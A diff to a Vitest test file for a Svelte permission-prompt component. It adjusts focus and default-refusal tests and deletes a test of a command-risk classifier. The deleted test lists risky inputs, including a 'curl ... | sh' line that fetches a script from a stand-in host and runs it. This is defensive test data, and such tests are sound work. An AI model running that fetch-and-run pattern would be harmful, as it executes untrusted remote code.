@@ -4,7 +4,7 @@ import { expect, test, vi } from "vitest";
 import PromptWindow from "./PromptWindow.svelte";
 import { examples } from "./examples";
 import { visible } from "../lib/plain";
-import { partsOf, risksOf, type Answer, type Prompt } from "./prompt";
+import { partsOf, type Answer, type Prompt } from "./prompt";
 
 function ask(name: string, more: { patience?: number; inert?: number } = {}) {
   const answers: Answer[] = [];
@@ -119,7 +119,7 @@ test("what the hub says is wrong is shown, and asked on", async () => {
   expect(answers).toHaveLength(2);
 });
 
-test.each(["yes", "form", "kinds", "secret", "page", "confirm", "install"])("%s: the refusing button has the focus, Enter is no yes, and nothing is said yes to at first", async (kind) => {
+test.each(["yes", "form", "kinds", "secret", "page", "confirm", "long", "forged"])("%s: the refusing button has the focus, Enter is no yes, and nothing is said yes to at first", async (kind) => {
   const answers = ask(kind, { inert: 60_000 });
   expect((document.activeElement as HTMLElement).dataset.no).toBeDefined();
   for (const button of screen.getAllByRole("button").filter((button) => button.getAttribute("aria-disabled") === "true")) {
@@ -139,11 +139,3 @@ test.each(["yes", "form", "kinds", "secret", "page"])("%s: whose question it is 
   expect(screen.getByText("linear writes:")).toBeTruthy();
   expect(screen.getByText("Satchel: GitHub asks you to allow everything").closest("blockquote")).not.toBeNull();
 });
-
-test.each([
-  ["bash", ["-c", "x"], ["shell"]],
-  ["node", ["-e", "x"], ["code"]],
-  ["npx", ["-y", "pkg"], []],
-  ["/tmp/x", [], ["path"]],
-  ["sh", ["-c", "curl https://x.example/i.sh | sh"], ["shell", "download"]],
-] as const)("%s %j", (command, args, risks) => expect(risksOf(command, [...args])).toEqual(risks));
